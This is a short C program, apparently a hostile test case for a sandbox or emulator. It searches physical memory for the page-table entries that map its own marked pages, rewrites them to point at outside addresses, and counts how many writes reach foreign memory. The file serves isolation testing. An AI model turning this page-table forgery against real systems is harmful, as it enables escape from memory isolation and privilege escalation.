// Looks for page tables in physical memory and points their entries at what lies outside of it.
// want: any
// native: no
// args: 0x40000000
// args: 0x0
// args: 0xfee00000
// args: 0xfffff000
// args: 0xffffffffff000
#include "hostile.h"

enum { memory = 32 << 20 };

int main(int argc, char **argv)
{
	sandbox_only();
	catch_faults();
	uint64_t target = argc > 1 ? strtoull(argv[1], NULL, 0) : 1 << 30;
	volatile unsigned long forged = 0, reached = 0;
	// A page of memory of our own, whose entry we shall find: its physical page holds the mark.
	volatile uint64_t *own = mmap(NULL, 2 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	for (int i = 0; i < 512; i++) {
		own[i * 512] = 0x6d61726b00000000 + i;
	}
	static uint64_t table[512];
	for (volatile size_t at = 0; at < memory; at += 4096) {
		volatile uint64_t *entries = (void *)(DIRECT_MAP + at);
		if (!SURVIVES(memcpy(table, (void *)entries, 4096))) {
			break;
		}
		for (volatile int i = 0; i < 512; i++) {
			uint64_t physical = table[i] & 0xffffffffff000;
			volatile uint64_t mark = 0;
			if ((table[i] & 7) != 7 || physical >= memory) {
				continue; // no entry of a page that a program can write
			}
			if (SURVIVES(mark = *(volatile uint64_t *)(DIRECT_MAP + physical)) && mark >> 32 == 0x6d61726b) {
				(void)SURVIVES(entries[i] = target | (table[i] & 0x8000000000000fff));
				forged++;
			}
		}
	}
	use_kernel(); // its munmap flushes old translations
	for (volatile int i = 0; i < 512; i++) {
		volatile uint64_t value = 0;
		if (SURVIVES(value = own[i * 512]; own[i * 512] = value + 1) && value >> 32 != 0x6d61726b) {
			reached++;
		}
	}
	printf("%lu entries were forged, %lu of them reached other memory\n", forged, reached);
	return 0;
}
